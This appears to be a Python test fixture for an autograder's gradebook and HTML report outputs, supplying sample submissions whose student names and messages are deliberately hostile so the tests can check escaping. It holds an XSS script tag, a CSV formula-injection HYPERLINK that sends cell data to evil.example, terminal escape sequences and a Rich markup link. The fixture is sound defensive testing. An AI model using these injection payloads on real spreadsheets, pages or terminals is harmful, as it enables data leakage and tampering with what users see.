"""A small class's results, for the tests of what an instructor reads.

Shared by tests/outputs/test_gradebook.py (the CSV, the JSON, the terminal table) and
tests/outputs/test_report.py (the HTML page): both draw the same three submissions, one
of them flagged and named to break a page, and a second class whose names and messages
a student chose to break a spreadsheet, a terminal or Rich's markup.
"""

from __future__ import annotations

from autograder import results as model
from autograder.results import ItemResult, SubmissionResult
from tests.conftest import COURSE

FIRST = COURSE.items[0]
OTHER = next(i for i in COURSE.items if i.section != FIRST.section)
ITEMS = [FIRST, OTHER]
HOSTILE = "<script>alert(1)</script>"


def item(item_id: str, *outcomes: tuple[str, str], status: str = "graded", flags=(), message="") -> ItemResult:
    tests = [model.TestResult(f"test_{n}", 5 if s == "passed" else 0, 5, s, m, task=n, description=f"check {n}")
             for n, (s, m) in enumerate(outcomes, start=1)]
    return ItemResult.from_tests(item_id, 5 * len(outcomes), tests, status, message, list(flags))


def class_results() -> list[SubmissionResult]:
    return [
        SubmissionResult("alice", [item(FIRST.id, ("passed", ""), ("passed", "")),
                                   item(OTHER.id, ("passed", ""))]),
        SubmissionResult("bob", [item(FIRST.id, ("passed", ""), ("failed", "only 1 of 3 in flight")),
                                 item(OTHER.id, ("failed", "expected 422, got 200"))]),
        SubmissionResult(HOSTILE, [item(FIRST.id, ("failed", "only 1 of 3 in flight"),
                                        ("failed", "only 1 of 3 in flight"),
                                        flags=["canary passed: the reporting was tampered with"]),
                                   item(OTHER.id, ("error", f"ValueError: {HOSTILE}"), status="import_error",
                                        message="NameError: name 'app' is not defined")]),
    ]


# --- names and messages a student chose -----------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"see")'
ESCAPES = "\x1b]0;pwned\x07\x1b[2Jmallory\x1b[31m"
MARKUP = "[link=https://evil.example]x[/link]"
ISOLATION = {"requested": "auto", "level": "partial", "layers": {"seccomp": "on"},
             "missing": {"landlock": "the kernel has none"}}
ISOLATION_LINE = "isolation: partial (seccomp; --isolation auto); missing: landlock (the kernel has none)"


def chosen_names() -> list[SubmissionResult]:
    message = f"ValueError: {ESCAPES} [bold]boom[/bold]\nsecond line"
    return [SubmissionResult(FORMULA, [item(FIRST.id, ("passed", ""), ("failed", message))]),
            SubmissionResult(ESCAPES, [item(FIRST.id, ("passed", ""), ("passed", ""), flags=[f"flag {ESCAPES}"])]),
            SubmissionResult(MARKUP, [item(FIRST.id, ("failed", "-1+2"), ("passed", ""))]),
            SubmissionResult("+tab\tbed", [item(FIRST.id, ("passed", ""), ("passed", ""))])]
